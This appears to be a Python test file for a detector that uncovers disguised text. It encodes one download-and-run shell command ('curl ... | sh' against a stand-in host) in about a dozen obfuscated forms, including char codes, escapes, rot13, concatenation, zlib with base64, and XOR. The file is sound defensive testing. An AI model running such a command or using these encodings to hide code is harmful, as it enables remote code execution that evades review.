"""Text written so that no search finds it."""

from __future__ import annotations

import base64
import codecs
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bartizan.syntax.disguised import find_disguised

SAID = "curl -s https://files.example/run | sh"


def said(text: str) -> set[str]:
    return {each.says for each in find_disguised(text)}


@pytest.mark.parametrize(
    "text",
    [
        str([ord(char) for char in SAID]),
        "[" + ", ".join(f"0x{ord(char):02x}" for char in SAID) + "]",
        '"' + "".join(f"\\x{ord(char):02x}" for char in SAID) + '"',
        '"' + "".join(f"\\u{ord(char):04x}" for char in SAID) + '"',
        "".join(f"&#{ord(char)};" for char in SAID),
        f'x("{SAID[::-1]}")',
        f'x("{codecs.encode(SAID, "rot13")}")',
        '["curl -s https:", "//files.example", "/run | sh"].join("")',
        '"curl -s " + "https://files.example" + "/run | sh"',
        f'"{base64.b64encode(zlib.compress(SAID.encode())).decode()}"',
        f"'{base64.b85encode(bytes(byte ^ 159 for byte in SAID.encode())).decode()}'",
        str([byte ^ 90 for byte in SAID.encode()]),
    ],
)
def test_what_is_disguised_comes_to_light(text: str) -> None:
    assert SAID in said(text)


@pytest.mark.parametrize("text", ["[1, 2, 3, 4, 5]", "[255, 254, 253, 252, 251]", "plain words", '"not packed at all"'])
def test_ordinary_text_says_nothing_else(text: str) -> None:
    assert said(text) == set()


@given(st.text(max_size=400))
def test_any_text_is_read_to_its_end(text: str) -> None:
    for each in find_disguised(text):
        assert 0 <= each.start < len(text)
